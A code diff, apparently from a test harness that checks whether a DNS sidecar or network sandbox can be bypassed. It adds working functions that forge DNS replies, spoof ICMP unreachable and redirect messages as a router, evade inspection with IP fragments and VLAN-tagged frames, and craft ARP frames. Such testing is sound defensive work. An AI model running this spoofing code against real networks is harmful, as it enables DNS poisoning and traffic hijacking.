@@ -18,7 +18,8 @@ import struct
 import subprocess
 import sys
 
-SO_MARK, SO_ATTACH_FILTER = 36, 26
+SO_MARK, SO_PRIORITY, SO_ATTACH_FILTER = 36, 12, 26
+IP_NODEFRAG = 22
 SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20
 ETH_P_ALL, ETH_P_IP, ETH_P_IPV6, ETH_P_ARP = 0x0003, 0x0800, 0x86dd, 0x0806
 PATIENCE_S = 20
@@ -272,25 +273,119 @@ def sniff_marks():
     return {"packets": seen, "mark": sum(1 << bit for bit, sock in enumerate(bits) if count(sock))}
 
 
-def forge(own, upstream, address, way):
-    """Waits for a question to the upstream, which shows port and id, and answers before the upstream does."""
-    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
-    sniffer.settimeout(PATIENCE_S)
-    print("ready", flush=True)
+def _reply(question, address):
+    """An answer with one address to a question with these octets."""
+    end = question.index(b"\0", 12) + 5
+    return (question[:2] + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0) + question[12:end] +
+            struct.pack("!HHHIH", 0xc00c, 1, 1, 60, 4) + ipaddress.ip_address(address).packed)
+
+
+def _sockets_to(upstream):
+    """Ports of everybody's UDP sockets that are connected to port 53 of the upstream: anyone may read them."""
+    v6 = ":" in upstream
+    packed = ipaddress.ip_address(upstream).packed
+    words = struct.unpack(f"={len(packed) // 4}I", packed)
+    peer = "".join(f"{word:08X}" for word in words) + ":0035"
+    lines = pathlib.Path("/proc/thread-self/net", "udp6" if v6 else "udp").read_text().splitlines()[1:]
+    return [int(line.split()[1].rpartition(":")[2], 16) for line in lines if line.split()[2] == peer]
+
+
+def _await_question(sniffer, upstream, name):
+    """The next packet with a question for the name to the upstream: the packet, its port, the question."""
     wanted, v6 = ipaddress.ip_address(upstream).packed, ":" in upstream
+    size = 40 if v6 else 20
     while True:
         packet = sniffer.recv(65535)
-        size = 40 if v6 else 20
         if packet[24 if v6 else 16:40 if v6 else 20] != wanted or packet[6 if v6 else 9] != 17:
             continue
         port, to = struct.unpack_from("!HH", packet, size)
         question = packet[size + 8:]
-        if to == 53 and struct.unpack_from("!H", question, 4)[0] == 1 and b"\5forge" in question.lower():
-            break
-    end = question.index(b"\0", 12) + 5
-    answer = (question[:2] + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0) + question[12:end] +
-              struct.pack("!HHHIH", 0xc00c, 1, 1, 60, 4) + ipaddress.ip_address(address).packed)
-    forged = udp_packet(upstream, 53, own, port, answer)
+        if to == 53 and struct.unpack_from("!H", question, 4)[0] == 1 and name in question.lower():
+            return packet, port, question
+
+
+def _sniff_packets():
+    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
+    sniffer.settimeout(PATIENCE_S)
+    return sniffer
+
+
+def forge_through_redirect(own, upstream, address, listener, listener_port):
+    """Makes the kernel take the forger for the other end of a redirected question: a datagram without the sidecar's mark
+    from each of its ports, which are redirected, and then an answer from where they are redirected to."""
+    with _sniff_packets() as sniffer:
+        for port in _sockets_to(upstream):
+            send_raw(udp_packet(own, port, upstream, 53, b"x"), upstream)
+        print("ready", flush=True)
+        _, port, question = _await_question(sniffer, upstream, b"\5forge")
+        forged = udp_packet(listener, int(listener_port), own, port, _reply(question, address))
+        return [send_raw(forged, own) for _ in range(20)]
+
+
+def icmp_packet(source, destination, kind, code, rest, body):
+    """An ICMP or ICMPv6 message; `rest` is the second word."""
+    message = struct.pack("!BBH4s", kind, code, 0, rest) + body
+    if ":" in destination:
+        pseudo = ipaddress.ip_address(source).packed + ipaddress.ip_address(destination).packed
+        total = checksum(pseudo + struct.pack("!II", len(message), 58) + message)
+    else:
+        total = checksum(message)
+    return ip_packet(source, destination, 58 if ":" in destination else 1,
+                     message[:2] + struct.pack("!H", total) + message[4:])
+
+
+def call_unreachable(own, router, upstream):
+    """When a question to the upstream goes out, says as a router that nobody listens there."""
+    with _sniff_packets() as sniffer:
+        print("ready", flush=True)
+        packet, _, _ = _await_question(sniffer, upstream, b"\5forge")
+        kind, code = (1, 4) if ":" in own else (3, 3)
+        lie = icmp_packet(router, own, kind, code, b"\0" * 4, packet[:68])
+        return [send_raw(lie, own) for _ in range(3)]
+
+
+def redirect(own, router, destination, neighbour):
+    """Says as a router that a neighbour is the better way (RFC 792), about a socket that there is."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        sock.connect((destination, 53))
+        packet = udp_packet(own, sock.getsockname()[1], destination, 53, b"x")
+        lie = icmp_packet(router, own, 5, 1, ipaddress.ip_address(neighbour).packed, packet[:28])
+        return [send_raw(lie, own) for _ in range(3)]
+
+
+def question_in_fragments(own, server, question):
+    """Octets in hex, to port 53, in two pieces that the kernel does not put together before it looks (IP_NODEFRAG)."""
+    data = udp_packet(own, 4444, server, 53, bytes.fromhex(question))[40 if ":" in server else 20:]
+    family = socket.AF_INET6 if ":" in server else socket.AF_INET
+    with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
+        if ":" not in server:
+            sock.setsockopt(socket.IPPROTO_IP, IP_NODEFRAG, 1)
+        for fragment, piece in (0x2000, data[:8]), (1, data[8:]):
+            with contextlib.suppress(OSError):
+                sock.sendto(ip_packet(own, server, 17, piece, fragment=fragment), (server, 0))
+
+
+def question_in_a_frame(device, mac, own, server, question):
+    packet = udp_packet(own, 4444, server, 53, bytes.fromhex(question))
+    for bypass in False, True:
+        with frame_sender(device, bypass) as send:
+            for frame in frame_of(packet, mac), frame_of(packet, mac).replace(b"\x08\0E", b"\x81\0\0\1\x08\0E", 1):
+                send(frame)
+
+
+def arp(device, data):
+    """Twenty octets of the sender's choice in a frame that looks like the kernel's own."""
+    head = b"\xff" * 6 + b"\2\0\0\0\0\1" + struct.pack("!HHHBBH", ETH_P_ARP, 1, 0x0800, 6, 4, 1)
+    with frame_sender(device) as send:
+        return send(head + data.encode()[:20])
+
+
+def forge(own, upstream, address, way):
+    """Waits for a question to the upstream, which shows port and id, and answers before the upstream does."""
+    with _sniff_packets() as sniffer:
+        print("ready", flush=True)
+        _, port, question = _await_question(sniffer, upstream, b"\5forge")
+    forged = udp_packet(upstream, 53, own, port, _reply(question, address))
     errors = []
     for _ in range(20):
         if way == "raw":
